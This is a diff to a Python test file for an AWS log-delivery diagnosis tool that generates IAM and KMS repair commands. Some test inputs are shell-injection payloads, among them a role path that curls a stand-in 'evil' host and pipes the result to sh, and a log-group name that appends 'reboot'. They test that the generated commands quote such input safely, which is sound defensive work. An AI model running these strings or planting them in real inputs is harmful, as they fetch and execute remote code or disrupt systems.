@@ -11,7 +11,6 @@ import subprocess
 from pathlib import Path
 from typing import Final
 
-import pytest
 from hypothesis import example, given
 from hypothesis import strategies as st
 
@@ -20,13 +19,14 @@ from vended_logs_tools.account.calls import Absent, Call
 from vended_logs_tools.account.keys import Key, KeyPolicy
 from vended_logs_tools.account.roles import Role, RolePolicies, RolePolicy, Simulated
 from vended_logs_tools.diagnosis.commands import as_command, command
+from vended_logs_tools.diagnosis.delivery_actions import ALLOWING
 from vended_logs_tools.diagnosis.examination import Examination
 from vended_logs_tools.diagnosis.finding import Diagnosis
 from vended_logs_tools.diagnosis.identity import said_of
 from vended_logs_tools.diagnosis.key import diagnose_absent, diagnose_policy, diagnose_state, of_log_group
 from vended_logs_tools.diagnosis.role import Findings
-from vended_logs_tools.diagnosis.role_causes import ALLOWING, causes, missing_role
-from vended_logs_tools.diagnosis.trust import STATEMENT, diagnose_trust
+from vended_logs_tools.diagnosis.role_causes import causes, missing_role
+from vended_logs_tools.diagnosis.trust import diagnose_trust, statement
 from vended_logs_tools.rules.iam import ROLE_ACTIONS
 
 SCOPE: Final = Scope("aws", "eu-west-1", "123456789012")
@@ -110,12 +110,13 @@ def test_law_each_value_is_one_word(values: list[str], name: str) -> None:
 @example("orders", "/x;curl${IFS}evil|sh;/")
 def test_missing_role(name: str, path: str) -> None:
     """A role's name and path, which IAM lets hold every printable character, reach the commands as they are."""
-    found = missing_role(Absent(Call("iam", "GetRole"), "is absent"), name, path, "billing")
+    found = missing_role(Absent(Call("iam", "GetRole"), "is absent"), name, path, "123456789012", "billing")
     made = options(found.commands[0], "iam create-role")
     put = options(found.commands[1], "iam put-role-policy")
 
     assert made["role-name"] == put["role-name"] == name
     assert made.get("path", "/") == path
+    assert json.loads(made["assume-role-policy-document"])["Statement"] == [statement("123456789012")]
     assert json.loads(put["policy-document"])["Statement"] == [ALLOWING]
 
 
@@ -147,15 +148,26 @@ def test_boundary(role: str, name: str, version: str, is_read: bool) -> None:  #
     limit = policy(name, ("policy-arn", arn), ("version-id", version)) if is_read else None
     own = RolePolicies((policy("own", action="logs:*"),), limit)
     found = findings(role, arn, own, Simulated("implicitDeny", by_boundary=False))
-    flags = ("--set-as-default",)
+    [told] = found.commands
 
-    assert options(found.commands[-1], "iam create-policy-version", flags=flags)["policy-arn"] == arn
-    if is_read:
-        read = options(found.commands[0], "iam get-policy-version", file="boundary.json")
-        assert (read["policy-arn"], read["version-id"]) == (arn, version)
-    else:
-        asked = found.commands[0].removeprefix("VERSION=$( ").removesuffix(" )")
-        assert options(asked, "iam get-policy")["policy-arn"] == arn
+    if limit is None:
+        assert options(told, "iam get-policy") == {"policy-arn": arn}
+        return
+    put = options(told, "iam create-policy-version", flags=("--set-as-default",))
+    assert put["policy-arn"] == arn
+    assert json.loads(put["policy-document"])["Statement"] == [limit.document["Statement"][0], ALLOWING]  # type: ignore[index]
+
+
+@given(names, names, names)
+def test_boundary_with_a_denial(name: str, version: str, sid: str) -> None:
+    """The command that shows a boundary with a Deny names it as it is."""
+    arn = f"arn:aws:iam::123456789012:policy/{name}"
+    limit = policy(name, ("policy-arn", arn), ("version-id", version), effect="Deny", action="logs:*")
+    limit.document["Statement"][0]["Sid"] = sid  # type: ignore[index]
+    own = RolePolicies((policy("own", action="logs:*"),), limit)
+    found = findings("orders", arn, own, Simulated("implicitDeny", by_boundary=False))
+
+    assert options(found.commands[0], "iam get-policy-version") == {"policy-arn": arn, "version-id": version}
 
 
 @given(names, names)
@@ -186,7 +198,16 @@ def test_trust(role: str, sid: str, value: str) -> None:
     put = options(found.commands[0], "iam update-assume-role-policy")
 
     assert put["role-name"] == role
-    assert json.loads(put["policy-document"])["Statement"] == [kept, STATEMENT]
+    assert json.loads(put["policy-document"])["Statement"] == [kept, statement("123456789012")]
+
+
+NO_LOGS: Final = {
+    "Effect": "Deny",
+    "Principal": {"Service": "logs.eu-west-1.amazonaws.com"},
+    "Action": "*",
+    "Resource": "*",
+}
+LONG: Final = {"Sid": "x" * 30_000, "Effect": "Allow", "Principal": {"AWS": "1"}, "Action": "kms:*", "Resource": "*"}
 
 
 @given(names, names)
@@ -195,13 +216,20 @@ def test_key(key: str, group: str) -> None:
     call = Call("kms", "GetKeyPolicy", (("key-id", key), ("policy-name", "default")))
     use = of_log_group(group, SCOPE)
     [closed] = diagnose_policy(key, KeyPolicy('{"Statement": []}', call), use, "billing")
-    read, statement, write = closed.commands
+    [denied] = diagnose_policy(key, KeyPolicy(json.dumps({"Statement": NO_LOGS}), call), use, "billing")
+    [long] = diagnose_policy(key, KeyPolicy(json.dumps({"Statement": LONG}), call), use, "billing")
     [deleted] = diagnose_state(Key(key, "PendingDeletion", call), use, "billing")
     absent = diagnose_absent(Absent(call, "is absent"), key, use, "billing")
 
-    assert options(read, "kms get-key-policy", file="key-policy.json")["key-id"] == key
-    assert options(write, "kms put-key-policy")["key-id"] == key
-    assert HERE.command(statement) == statement
+    put = options(closed.commands[0], "kms put-key-policy")
+    added = json.loads(put["policy"])["Statement"]
+
+    assert put["key-id"] == key
+    assert added[0]["Condition"]["ArnEquals"]["kms:EncryptionContext:aws:logs:arn"].endswith(f":{group}")
+    assert options(denied.commands[0], "kms get-key-policy")["key-id"] == key
+    assert options(long.commands[0], "kms get-key-policy", file="key-policy.json")["key-id"] == key
+    assert [json.loads(shlex.split(HERE.command(long.commands[1]))[-1])] == added
+    assert options(long.commands[2], "kms put-key-policy")["policy"] == "file://key-policy.json"
     assert options(deleted.commands[0], "kms cancel-key-deletion") == {"key-id": key}
     assert options(deleted.commands[1], "kms enable-key") == {"key-id": key}
     assert options(absent.commands[0], "logs disassociate-kms-key") == {"log-group-name": group}
@@ -228,17 +256,14 @@ def test_a_shell_takes_them_so(tmp_path: Path) -> None:
     assert [one.name for one in tmp_path.iterdir()] == ["calls"]
 
 
-@pytest.mark.parametrize("is_read", [True, False], ids=["read", "not read"])
-def test_the_commands_for_a_boundary_follow_one_another(tmp_path: Path, is_read: bool) -> None:  # noqa: FBT001
-    """The version in force, asked for where it is not known, is written to the file that is then put."""
-    arn = "arn:aws:iam::123456789012:policy/x;y/limit"
-    limit = policy("limit", ("policy-arn", arn), ("version-id", "v7")) if is_read else None
-    own = RolePolicies((policy("own", action="logs:*"),), limit)
-    found = findings("orders", arn, own, Simulated("implicitDeny", by_boundary=False))
-    called = run("\n".join(HERE.command(one) for one in found.commands if not one.startswith("{")), tmp_path)
-    *_, read, put = called
+def test_a_shell_takes_the_way_through_a_file(tmp_path: Path) -> None:
+    """The policy is written to the file, an editor is opened on it, and the file is put."""
+    call = Call("kms", "GetKeyPolicy", (("key-id", "it's"), ("policy-name", "default")))
+    use = of_log_group("/x;reboot", SCOPE)
+    [found] = diagnose_policy("it's", KeyPolicy(json.dumps({"Statement": LONG}), call), use, "billing")
+    editor = 'EDITOR=edit; edit() { echo edited >> "$1"; }\n'
+    read, put = run(editor + "\n".join(map(HERE.command, found.commands)), tmp_path)
 
-    assert read[read.index("--version-id") + 1] == "v7"
-    assert read[read.index("--policy-arn") + 1] == put[put.index("--policy-arn") + 1] == arn
-    assert (tmp_path / "boundary.json").read_text(encoding="utf-8") == "v7\n"
-    assert put[put.index("--policy-document") + 1] == "file://boundary.json"
+    assert read[:4] == ["kms", "get-key-policy", "--key-id", "it's"]
+    assert (tmp_path / "key-policy.json").read_text(encoding="utf-8") == "v7\nedited\n"
+    assert put[put.index("--policy") + 1] == "file://key-policy.json"
